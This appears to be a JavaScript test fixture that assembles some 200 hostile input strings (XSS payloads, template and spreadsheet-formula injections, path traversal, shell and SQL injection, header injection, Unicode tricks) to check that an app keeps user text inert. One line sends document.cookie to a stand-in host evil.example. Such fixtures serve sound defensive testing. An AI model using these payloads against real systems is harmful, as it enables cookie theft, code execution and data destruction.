// What hostile agents, browsers and users may send as a text: 200 ways to become markup, script, a style, a
// link, a template, a formula, a path, or a mess on a terminal. Nothing here may ever be more than text.
const CALL = "alert(1)";

const ON_EVENT = ["img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "video src=x onerror", "audio src=x onerror",
  "details open ontoggle", "marquee onstart", "object data=x onerror", "iframe onload", "select autofocus onfocus", "textarea autofocus onfocus",
  "div onpointerenter", "a onclick", "button onclick", "form onsubmit", "style onload", "link rel=stylesheet href=x onerror", "math onclick", "svg><animate onbegin"];

const BREAK_OUT = ["", "\">", "'>", "</title>", "</script>", "</style>", "</textarea>", "-->"];

const LINKS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\u0001javascript:alert(1)", " javascript:alert(1)",
  "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
  "vbscript:msgbox(1)", "//evil.example/x.js", "https://evil.example@atlas/", "blob:https://atlas/x", "file:///etc/passwd"];

const MARKUP = ["<script>alert(1)</script>", "<defunct>", "<script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)</ScRiPt>", "<script/x>alert(1)</script>",
  "<<script>alert(1)//<</script>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
  "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=import href=//evil.example>", "<embed src=//evil.example/x.swf>",
  "<style>*{display:none}</style>", "<style>@import'//evil.example/x.css';</style>", "<p style=background:url(//evil.example)>", "<svg><script>alert(1)</script></svg>",
  "<svg><use href=//evil.example#x></svg>", "<math><mtext><script>alert(1)</script></mtext></math>", "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<form action=//evil.example><button>Sign in</button></form>", "<input name=password type=password>", "<dialog open>Sign in again</dialog>", "<h1>hacked</h1>", "<b>bold</b>"];

const ESCAPES = ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
  "%253Cscript%253E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "\u2028alert(1)\u2029", "';alert(1);//", "\";alert(1);//",
  "`;alert(1);//", "\\';alert(1);//", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)", "x onmouseover=alert(1) y"];

const TEMPLATES = ["{{7*7}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{%debug%}", "[[${7*7}]]", "@(7*7)", "*{7*7}", "$$\\href{javascript:alert(1)}{x}$$"];

const FORMULAS = ["=HYPERLINK(\"http://evil.example\")", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=1+1\";=1+1"];

const SYSTEMS = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.png", "; rm -rf /", "| id", "$(id)", "`id`", "& calc", "' OR 1=1 --", "1; DROP TABLE users",
  "\u001b[31mred", "\u001b]0;title\u0007", "\u0000\u0007\u0008", "a\r\nSet-Cookie: x=y", "a\nlevel=error msg=forged", "%0d%0aX-Header: y", "%s%s%s%n", "NULL", "undefined", "NaN"];

const LETTERS = ["\u202Egnp.exe", "\u200B\u200B\u200B", "\uFEFFx", "e\u0301".repeat(40), "Z\u0351\u034B\u0310a\u0327l\u0322g\u0321o".repeat(20), "\uD83D\uDE00".repeat(50), "\uD800", "\u0130\u0131", "a".repeat(5000), "\u0645\u0631\u062D\u0628\u0627"];

const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "length", "__defineGetter__"];

const events = ON_EVENT.map((start) => `<${start}=${CALL}>`);
const breakouts = BREAK_OUT.flatMap((before) => [`${before}<img src=x onerror=${CALL}>`, `${before}<svg/onload=${CALL}>`, `${before}<script>${CALL}</script>`])
  .concat(BREAK_OUT.map((before) => `${before}<iframe src="javascript:${CALL}">`));
const encodedCalls = ["alert`1`", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))", "import('//evil.example/x.js')", "window.onerror=alert;throw 1", "self[`alert`](1)", "Function('alert(1)')()",
  "location='//evil.example'", "document.cookie", "fetch('//evil.example?'+document.cookie)"].map((call) => `<img src=x onerror="${call}">`);

const anchors = LINKS.map((link) => `<a href="${link}">x</a>`);
const markdown = LINKS.map((link) => `[x](${link})`);

/** All of them, each once. */
export const PAYLOADS = [...new Set([...MARKUP, ...events, ...breakouts, ...encodedCalls, ...LINKS, ...anchors, ...markdown, ...ESCAPES, ...TEMPLATES, ...FORMULAS, ...SYSTEMS, ...LETTERS, ...NAMES])];
